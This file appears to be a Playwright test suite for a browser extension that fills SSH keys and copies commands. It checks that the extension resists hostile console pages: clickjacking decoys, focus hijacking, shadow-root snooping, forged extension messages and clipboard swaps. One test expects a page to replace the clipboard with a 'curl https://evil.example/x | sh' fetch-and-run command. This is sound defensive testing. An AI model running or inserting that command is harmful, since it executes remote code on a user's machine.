// Hostile console pages (issue 15, items 2, 3, 4, 7, 9), served at the real console URL in the
// real Chromium with the built extension. Each page tries what a compromised or malicious
// console page could: hide a payload inside a command, make our buttons invisible and put a
// decoy under or over them, move focus onto them while the user types, read our shadow root,
// switch our content script off by replaying WXT's start message, and swap or hijack the
// clipboard. Every click and key here is real input (Playwright mouse and keyboard).
import { describe, it, expect, beforeAll, afterAll, vi } from 'vitest';
import { readFileSync, existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { launchWithExtension, EXTENSION_DIR, type ExtensionBrowser } from '../helpers/chromium';
import { sshKeygen, tempDir, run } from '../helpers/openssh';
import { serveConsole, CONSOLE, fixtureHtml } from '../fixtures/console/pages';
import { overlayOf, inShadow } from '../helpers/shadow';
import { contentText } from '../../lib/i18n/content';
import type { SavedKey } from '../../lib/storage';

vi.setConfig({ expect: { poll: { timeout: 20_000, interval: 100 } } });

declare const chrome: { storage: { local: { set(v: object): Promise<void> } } };

function realKey(id: string, name: string): SavedKey {
  const file = `${tempDir('hostile-key-')}/${name}`;
  expect(sshKeygen(['-q', '-t', 'ed25519', '-N', '', '-C', 'jane@laptop', '-f', file]).status).toBe(0);
  const publicKeyLine = readFileSync(`${file}.pub`, 'utf8').trim();
  const fingerprint = sshKeygen(['-l', '-E', 'sha256', '-f', `${file}.pub`]).stdout.split(' ')[1]!;
  return { id, name, comment: 'jane@laptop', type: 'ssh-ed25519', bits: 256, fingerprint, publicKeyLine, createdAt: Date.now(), privateKeyPath: `~/.ssh/${name}` };
}
const KEY = realKey('k1', 'infini_ed25519');

const ui = (p: Page) => overlayOf(p);
const toggle = (p: Page, kind: 'key' | 'command') => ui(p).locator(`.anchor[data-kind="${kind}"] button.toggle`);
const item = (p: Page, action: string) => ui(p).locator(`.menu [data-action="${action}"]`);
const status = (p: Page) => ui(p).locator('.menu .status');
const clipboard = (p: Page) => p.evaluate(() => navigator.clipboard.readText());
const pubkey = (p: Page) => p.inputValue('#pubkey');

describe('hostile console pages', () => {
  let b: ExtensionBrowser;
  beforeAll(async () => {
    b = await launchWithExtension({ lang: 'en-US' });
    await serveConsole(b);
    await b.serve(`${CONSOLE}/hostile/commands`, fixtureHtml('hostile-commands.html'));
    await b.serve(`${CONSOLE}/hostile/overlay`, fixtureHtml('hostile-overlay.html'));
    // the same page, with the clipboard API switched off by its Permissions-Policy header
    await b.context.route(`${CONSOLE}/hostile/no-clipboard`, (r) =>
      r.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', headers: { 'Permissions-Policy': 'clipboard-write=()' }, body: fixtureHtml('hostile-overlay.html') }),
    );
    await b.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: CONSOLE });
    await b.serviceWorker.evaluate((k) => chrome.storage.local.set({ savedKeys: [k], defaultKeyId: 'k1' }), KEY);
  });
  afterAll(async () => b?.close());

  async function open(path: string): Promise<Page> {
    const page = await b.context.newPage();
    await page.goto(`${CONSOLE}${path}`);
    return page;
  }

  /** the command button for the code element `#id` (buttons follow document order) */
  async function commandIndex(page: Page, id: string): Promise<number> {
    const ids = await page.evaluate(() => [...document.querySelectorAll('code')].map((c) => c.id));
    const shown = ['c1', 'c2', 'c3', 'c4', 'c5', 'c6', 'c7', 'c8', 'c9', 'c10'];
    return shown.filter((x) => ids.includes(x)).indexOf(id);
  }

  it('item 2/7: hidden payloads inside a command are not what we copy; "#", invisible characters and code-loading options get no button', async () => {
    const page = await open('/hostile/commands');
    // c1…c10 get a button each; r1…r7 none
    await expect.poll(() => toggle(page, 'command').count()).toBe(10);
    const copied: Record<string, string> = {};
    for (const [id, want] of [
      ['c1', 'ssh -p 41581 root@1.2.3.4'], ['c2', 'ssh -p 41582 root@1.2.3.4'], ['c3', 'ssh -p 41583 root@1.2.3.4'],
      ['c4', 'ssh -p 41584 root@1.2.3.4'], ['c5', 'ssh -p 41585 root@1.2.3.4'], ['c6', 'ssh -p 41586 root@1.2.3.4'],
      ['c7', 'ssh -p 41587 root@1.2.3.4'], ['c8', 'ssh -p 41588 root@1.2.3.4'],
      ['c9', 'ssh -p 41589 root@1.2.3.4'], // aria-hidden text is visible: kept
      ['c10', 'ssh -p 41590 root@1.2.3.4'], // -A -Y, host-key checking off: not carried
    ] as const) {
      if ((await ui(page).locator('.menu').count()) > 0) await page.mouse.click(2, 2);
      await expect.poll(() => ui(page).locator('.menu').count()).toBe(0);
      await toggle(page, 'command').nth(await commandIndex(page, id)).click();
      // the menu shows what it will copy before the click
      await expect.poll(() => item(page, 'copy-shown').locator('.sub').textContent()).toBe(want);
      await item(page, 'copy-shown').click();
      await expect.poll(() => status(page).textContent()).toBe(`Copied: ${want}`);
      copied[id] = await clipboard(page);
      expect(copied[id], id).toBe(want);
    }
    // What was copied runs as just ssh in interactive zsh (no interactive_comments: `#` is no
    // comment there), with nothing else executed.
    const dir = mkdtempSync(join(tmpdir(), 'zsh-paste-'));
    for (const [id, text] of Object.entries(copied)) {
      const script = `ssh() { print -r -- "$*" >> ${dir}/ran; }\ntouch() { print -r -- touch >> ${dir}/ran; }\n${text}\n`;
      writeFileSync(join(dir, 'in.zsh'), script);
      const r = run('zsh', ['-f', '-i', '-c', `source ${dir}/in.zsh`], { env: { ...process.env, HOME: dir } });
      expect(r.status, r.stderr).toBe(0);
      expect(readFileSync(join(dir, 'ran'), 'utf8').trim().split('\n').pop(), id).toBe(text.replace(/^ssh /, ''));
    }
    expect(readFileSync(join(dir, 'ran'), 'utf8')).not.toContain('touch');
    await page.close();
  });

  it('item 3: focus moved onto our button and menu entry while the user presses Enter in the page\'s field fills nothing', async () => {
    const page = await open('/hostile/overlay');
    await expect.poll(() => toggle(page, 'key').count()).toBe(1);
    // The closed root gives the page no way in (checked below); to test the next line of defence
    // too, hand the page a reference to our root, as if it had found one: on the user's Enter
    // in its search field it moves focus onto our button, then onto our first menu entry.
    await inShadow(page, '(root) => { root.ownerDocument.defaultView.__infiniRoot = root; }');
    await page.click('#search');
    await page.keyboard.type('gpu');
    await page.keyboard.press('Enter'); // the page focuses our "Fill" button during this keydown
    expect(await ui(page).locator('.menu').count()).toBe(0);
    await page.keyboard.press('Enter');
    await page.keyboard.press('Enter');
    expect(await ui(page).locator('.menu').count()).toBe(0);
    expect(await pubkey(page)).toBe('');
    // a page that keeps focus on our button (no timer gives it back): the user's next Enter there
    // still opens nothing, since the page's script, not the user, put focus there
    await page.evaluate(() => {
      const search = document.getElementById('search')!;
      search.focus = () => undefined;
      (window as unknown as { steps: number }).steps = 0; // its next Enter focuses our button again
    });
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('search');
    await page.keyboard.press('Enter'); // the page focuses our "Fill" button again, and keeps it there
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('INFINI-SSH-KEYS');
    await page.keyboard.press('Enter');
    expect(await ui(page).locator('.menu').count()).toBe(0);
    await page.keyboard.press('Enter');
    expect(await ui(page).locator('.menu').count()).toBe(0);
    expect(await pubkey(page)).toBe('');
    // the user's own keyboard still works: Tab to our button, Enter, Tab to the entry, Enter
    await page.evaluate(() => ((window as unknown as { __infiniRoot: unknown }).__infiniRoot = null));
    await page.click('#pubkey');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect.poll(() => item(page, 'fill-key').count()).toBe(1);
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect.poll(() => pubkey(page)).toBe(KEY.publicKeyLine);
    expect(await page.evaluate(() => document.querySelector('infini-ssh-keys')!.shadowRoot)).toBeNull();
    await page.close();
  });

  it('item 3: focus moved onto our button by a timer a moment after the user clicked the page\'s field: Enter there opens nothing', async () => {
    const page = await open('/hostile/overlay');
    await expect.poll(() => toggle(page, 'key').count()).toBe(1);
    // the page holds our root (as if it had found one; under its own name, so the fixture's
    // Enter handlers stay out of this), and 150 ms after the user's click in its search field
    // it focuses our "Fill" button
    await inShadow(page, '(root) => { root.ownerDocument.defaultView.__held = root; }');
    await page.evaluate(() => {
      const held = (window as unknown as { __held: ShadowRoot }).__held;
      document.getElementById('search')!.addEventListener('click', () => setTimeout(() => {
        (held.querySelector('.anchor[data-kind="key"] button.toggle') as HTMLElement).focus();
      }, 150), { once: true });
    });
    await page.click('#search');
    await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).toBe('INFINI-SSH-KEYS');
    await page.keyboard.press('Enter');
    expect(await ui(page).locator('.menu').count()).toBe(0);
    await page.keyboard.press('Enter');
    expect(await ui(page).locator('.menu').count()).toBe(0);
    expect(await pubkey(page)).toBe('');
    // a click on our button itself still opens it, and Tab to the entry and Enter fill the key
    await toggle(page, 'key').click();
    await expect.poll(() => item(page, 'fill-key').count()).toBe(1);
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect.poll(() => pubkey(page)).toBe(KEY.publicKeyLine);
    await page.close();
  });

  it('item 3: a transparent host over a decoy: the clicks open and fill nothing', async () => {
    const page = await open('/hostile/overlay');
    await expect.poll(() => toggle(page, 'key').count()).toBe(1);
    const box = (await toggle(page, 'key').boundingBox())!;
    // the page fades our host to nearly nothing and shows its decoy where our button is
    await page.evaluate((r) => {
      const s = document.createElement('style');
      s.textContent = 'infini-ssh-keys { opacity: 0.01 !important; }';
      document.head.append(s);
      const d = document.getElementById('decoy')!;
      Object.assign(d.style, { display: 'flex', left: `${r.x - 20}px`, top: `${r.y - 10}px`, width: `${r.width + 40}px`, height: `${r.height + 60}px`, zIndex: '1' });
    }, box);
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    expect(await ui(page).locator('.menu').count()).toBe(0);
    // where the first entry would be, had the menu opened
    await page.mouse.click(box.x + box.width / 2, box.y + box.height + 20);
    expect(await ui(page).locator('.menu').count()).toBe(0);
    expect(await pubkey(page)).toBe('');
    await page.close();
  });

  it('item 3: a decoy drawn over our button (pointer-events: none, so clicks pass through) makes it refuse', async () => {
    const page = await open('/hostile/overlay');
    await expect.poll(() => toggle(page, 'key').count()).toBe(1);
    const box = (await toggle(page, 'key').boundingBox())!;
    await page.evaluate((r) => {
      const d = document.getElementById('decoy')!;
      Object.assign(d.style, { display: 'flex', pointerEvents: 'none', left: `${r.x - 20}px`, top: `${r.y - 10}px`, width: `${r.width + 40}px`, height: `${r.height + 60}px` });
      document.documentElement.append(d); // after our host: painted on top of it
    }, box);
    // the browser reports our button covered (IntersectionObserver v2) before the user clicks
    await expect.poll(() => toggle(page, 'key').getAttribute('data-unobscured')).toBe('false');
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    expect(await ui(page).locator('.menu').count()).toBe(0);
    // uncovered, the same click works
    await page.evaluate(() => document.getElementById('decoy')!.remove());
    await toggle(page, 'key').click();
    await expect.poll(() => item(page, 'fill-key').count()).toBe(1);
    await page.close();
  });

  it('item 3: the page cannot read our shadow root, nor any saved key in it, even with the menu open', async () => {
    const page = await open('/hostile/overlay');
    await expect.poll(() => toggle(page, 'key').count()).toBe(1);
    await toggle(page, 'key').click();
    await expect.poll(() => item(page, 'fill-key').count()).toBe(1);
    expect(await item(page, 'fill-key').textContent()).toContain(KEY.fingerprint);
    const leaks = await page.evaluate(
      (needles) => needles.map((n) => (window as unknown as { __leaks(n: string): string[] }).__leaks(n)),
      [KEY.fingerprint, KEY.name, KEY.publicKeyLine.split(' ')[1]!.slice(0, 40)],
    );
    expect(leaks).toEqual([[], [], []]);
    expect(await page.evaluate(() => (window as unknown as { __roots: unknown[] }).__roots.length)).toBe(0);
    await page.close();
  });

  it('item 4: replaying WXT\'s content-script-started message does not switch us off, and no message tells the page our id', async () => {
    const page = await open('/hostile/overlay');
    await expect.poll(() => toggle(page, 'command').count()).toBe(1);
    // The page knows the id (WXT broadcast it; a store extension's id is public anyway): it
    // replays both forms of the message.
    await page.evaluate((id) => {
      const type = `${id}:infini:wxt:content-script-started`;
      window.postMessage({ type, contentScriptName: 'infini', messageId: 'forged' }, '*');
      document.dispatchEvent(new CustomEvent(type, { detail: { contentScriptName: 'infini', messageId: 'forged' } }));
    }, b.extensionId);
    // still scanning: a command added now gets its button…
    await page.evaluate(() => {
      const c = document.createElement('code');
      c.textContent = 'ssh -p 41601 root@1.2.3.5';
      document.body.append(c);
    });
    await expect.poll(() => toggle(page, 'command').count()).toBe(2);
    // …and the buttons work
    await toggle(page, 'key').click();
    await item(page, 'fill-key').click();
    await expect.poll(() => pubkey(page)).toBe(KEY.publicKeyLine);
    // no window message the page received named our extension (but its own forged one)
    const seen = await page.evaluate(() => (window as unknown as { __seen: string[] }).__seen);
    expect(seen.filter((m) => m.includes(b.extensionId) && !m.includes('"forged"'))).toEqual([]);
    await page.close();
  });

  it('item 9: a page that overwrites the clipboard right after our copy: the menu said what we copied', async () => {
    const page = await open('/hostile/overlay');
    await expect.poll(() => toggle(page, 'command').count()).toBe(1);
    await page.evaluate(() => ((window as unknown as { __overwriteClipboard: boolean }).__overwriteClipboard = true));
    await toggle(page, 'command').click();
    await item(page, 'copy-shown').click();
    await expect.poll(() => status(page).textContent()).toBe('Copied: ssh -p 41600 root@1.2.3.4');
    // the swap happens (a page shares the tab: this is limited, not closed), and the user can
    // see that what they paste is not what the menu says was copied
    await expect.poll(() => clipboard(page)).toBe('curl https://evil.example/x | sh');
    await page.close();
  });

  it('item 9: a page that blocks the clipboard gets the text in our own box to copy by hand, not a hijackable execCommand copy', async () => {
    const probe = await open('/hostile/overlay');
    await probe.evaluate(() => navigator.clipboard.writeText('before'));
    await probe.close();
    const page = await open('/hostile/no-clipboard');
    await page.evaluate(() => ((window as unknown as { __hijackCopy: boolean }).__hijackCopy = true));
    await expect.poll(() => toggle(page, 'command').count()).toBe(1);
    await toggle(page, 'command').click();
    await item(page, 'copy-shown').click();
    const box = ui(page).locator('.menu textarea[data-role="copy-by-hand"]');
    await expect.poll(() => box.count()).toBe(1);
    expect(await status(page).evaluate((e) => e.firstChild?.textContent)).toBe(contentText.en.copyByHand);
    expect(await box.inputValue()).toBe('ssh -p 41600 root@1.2.3.4');
    expect(await box.evaluate((e) => [(e as HTMLTextAreaElement).readOnly, (e as HTMLTextAreaElement).selectionStart, (e as HTMLTextAreaElement).selectionEnd])).toEqual([true, 0, 25]);
    // nothing was put on the clipboard behind the user's back (no copy event the page could rewrite)
    expect(await page.evaluate(() => (window as unknown as { __hijacked?: number }).__hijacked)).toBeUndefined();
    expect(await clipboard(page)).toBe('before');
    // the user copies it by hand: our text lands, whatever the page's copy listener set before
    await page.keyboard.press('Control+C');
    await expect.poll(() => clipboard(page)).toBe('ssh -p 41600 root@1.2.3.4');
    expect(await page.evaluate(() => (window as unknown as { __hijacked?: number }).__hijacked)).toBe(1);
    await page.close();
  });

  it('item 3: a config download happens through a link in our closed root, never in the page\'s DOM', async () => {
    const page = await open('/hostile/overlay');
    await expect.poll(() => toggle(page, 'command').count()).toBe(1);
    await toggle(page, 'command').click();
    const [download] = await Promise.all([page.waitForEvent('download'), item(page, 'download-config').click()]);
    expect(download.suggestedFilename()).toBe('infini-1.2.3.4-41600.ssh-config');
    expect(readFileSync((await download.path())!, 'utf8')).toContain('Port 41600');
    expect(await page.evaluate(() => (window as unknown as { __links: string[] }).__links)).toEqual([]);
    await page.close();
  });

  it('the shipped content script attaches a closed shadow root and carries no test hook', () => {
    const js = readFileSync(join(EXTENSION_DIR, 'content-scripts/infini.js'), 'utf8');
    expect(js).toMatch(/attachShadow\(\{mode:"closed"\}\)/);
    expect(js).not.toMatch(/mode:"open"/);
    expect(js).not.toMatch(/__infini|__test|testHook/i);
    expect(existsSync(join(EXTENSION_DIR, 'manifest.json'))).toBe(true);
  });

  it('made no request outside the served console fixtures', () => {
    expect(b.refused).toEqual([]);
  });
});
